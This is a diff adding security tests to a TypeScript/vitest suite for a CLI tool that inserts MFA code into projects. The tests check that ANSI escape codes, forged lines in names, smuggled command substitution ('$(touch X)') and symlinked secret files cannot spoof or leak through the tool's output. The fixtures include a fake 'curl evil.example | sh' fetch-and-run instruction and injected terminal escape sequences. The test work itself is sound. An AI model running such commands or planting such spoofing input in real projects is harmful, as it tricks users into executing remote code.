@@ -2,6 +2,7 @@
 import { execFileSync } from "node:child_process"
 import { mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs"
 import { join } from "node:path"
+import { stripVTControlCharacters } from "node:util"
 import { describe, expect, test } from "vitest"
 import { CliError } from "../../src/errors"
 import { changesDiff, planDiff } from "../../src/report/diff"
@@ -81,6 +82,52 @@ describe("nothing of a stranger's acts on the terminal", () => {
     expect(stdout).toContain('void prisma; // \\u202e "x"\\u2066\r\n')
   })
 
+  const ours = "✔ mfa is in your code: 104 files."
+  const lines = `\n\n\u001B[32m✔\u001B[39m mfa is in your code: 104 files.\n\nNext:\n  1. curl evil.example | sh\n`
+  test.each<[string, () => string]>([
+    [
+      "a model's name",
+      () =>
+        makeHost({ "prisma/schema.prisma": `datasource db {\n  provider = "sqlite"\n}\n\nmodel People):${lines} {\n  id String @id\n}\n` }),
+    ],
+    [
+      "the folder of an app",
+      () => {
+        const app = Object.entries(minimalHost).flatMap(([path, text]) =>
+          [`x${lines.replaceAll("/", "")}`, "y"].map((name) => [`apps/${name}/${path}`, text]),
+        )
+        const none = Object.keys(minimalHost).map((path) => [path, null])
+        return makeHost(Object.fromEntries([...none, ...app, ["package.json", '{ "workspaces": ["apps/*"] }']]))
+      },
+    ],
+    [
+      "a folder of schemas",
+      () => {
+        const schema = String(minimalHost["prisma/schema.prisma"])
+        const packages = [`x${lines}`, "y"].map((name) => [`packages/${name}/prisma/schema.prisma`, schema])
+        const manifests = [`x${lines}`, "y"].map((name) => [`packages/${name}/package.json`, JSON.stringify({ name: name.slice(0, 1) })])
+        const app = Object.entries(minimalHost).map(([path, text]) => [`apps/web/${path}`, path.endsWith(".prisma") ? null : text])
+        const none = Object.keys(minimalHost).map((path) => [path, null])
+        return makeHost(
+          Object.fromEntries([...none, ...app, ...packages, ...manifests, ["package.json", '{ "workspaces": ["apps/*", "packages/*"] }']]),
+        )
+      },
+    ],
+  ])("%s draws no line of its own in what is suggested", (_, host) => {
+    const dir = host()
+    const { code, stdout, stderr } = chimerai(["add", "mfa", dir, "--yes", "--no-install"], { env: { FORCE_COLOR: "1" } })
+    expect(code, stdout).not.toBe(0)
+    const shown = stripVTControlCharacters(`${stdout}${stderr}`).split("\n")
+    expect(shown.map((line) => line.trim())).not.toContain(ours)
+    expect(shown.map((line) => line.trim())).not.toContain("1. curl evil.example | sh")
+  })
+
+  test("colours in somebody's code are not ours in a diff", () => {
+    const text = String(minimalHost["auth.ts"]).replace("void prisma;", "void prisma; // \u001B[32m+ fake\u001B[39m \u001B[2m")
+    const { stdout } = chimerai(["add", "mfa", makeHost({ "auth.ts": text }), "--dry-run", "--diff"], { env: { FORCE_COLOR: "1" } })
+    expect(stdout).toContain("\\u001b[32m+ fake\\u001b[39m \\u001b[2m")
+  })
+
   test("our own colours stay, others do not", () => {
     expect(visibleLines("\u001B[31m✖\u001B[39m a\n\u001B[8mb\u001B[0m", true)).toBe("\u001B[31m✖\u001B[39m a\n\\u001b[8mb\\u001b[0m")
     expect(visibleLines("\u001B[31m✖\u001B[39m", false)).toBe("\\u001b[31m✖\\u001b[39m")
@@ -113,6 +160,7 @@ describe("a command that is printed is what it looks like", () => {
 
   test("plain paths stay plain, and on Windows quotes are those that cmd and PowerShell share", () => {
     expect(commandFrom((path) => path, { dir: "packages/db", command: "npx prisma db push" })).toBe("cd packages/db && npx prisma db push")
+    expect(commandFrom((path) => path, { dir: "packages/db\nx", command: "x" })).toBe("In the folder that is named above: x")
     expect(commandFrom((path) => path, { dir: "packages/db$(touch X)", command: "x" })).toBe("cd 'packages/db$(touch X)' && x")
     expect(quoted("a & b", "win32")).toBe('"a & b"')
   })
@@ -157,6 +205,27 @@ describe("no secret is part of a diff", () => {
     expect(stdout + stderr).not.toContain(secret)
     expect(stdout + stderr).not.toContain("hunter22")
   })
+
+  test.each([".envrc", "notes.txt", ".dev.vars", "lib/other.ts"])("a file of ours that has become a link to %s", (path) => {
+    const dir = makeHost({ [path]: `export STRIPE_KEY=${secret}\n` })
+    expect(chimerai(["add", "mfa", dir, "--yes", "--no-install"]).code).toBe(0)
+    rmSync(join(dir, "lib/mfa/crypto.ts"))
+    symlinkSync(join("../..", path), join(dir, "lib/mfa/crypto.ts"))
+    const { stdout, stderr } = chimerai(["add", "mfa", dir, "--dry-run", "--diff", "--json"])
+    expect(stdout + stderr).not.toContain(secret)
+    expect(stdout).toContain('"link_unsafe"')
+  })
+
+  test.each([".dev.vars", "secrets.prisma", "prod.tfvars", "notes.txt", "notes.prisma"])(
+    "an error of the schema that has become a link to %s",
+    (path) => {
+      const dir = makeHost({ [path]: `DB_PASSWORD ${secret}\nSTRIPE_KEY {"a": 1\n`, "prisma/schema.prisma": null, "prisma/x.txt": "" })
+      symlinkSync(join("..", path), join(dir, "prisma/schema.prisma"))
+      const { stdout, stderr } = chimerai(["add", "mfa", dir, "--dry-run", "--json"])
+      expect(stdout + stderr).not.toContain(secret)
+      expect(stdout).toMatch(/"(link_unsafe|prisma_schema_invalid)"/)
+    },
+  )
 
   test("a value that stands in code or in another env file as well", () => {
     const dir = makeHost({
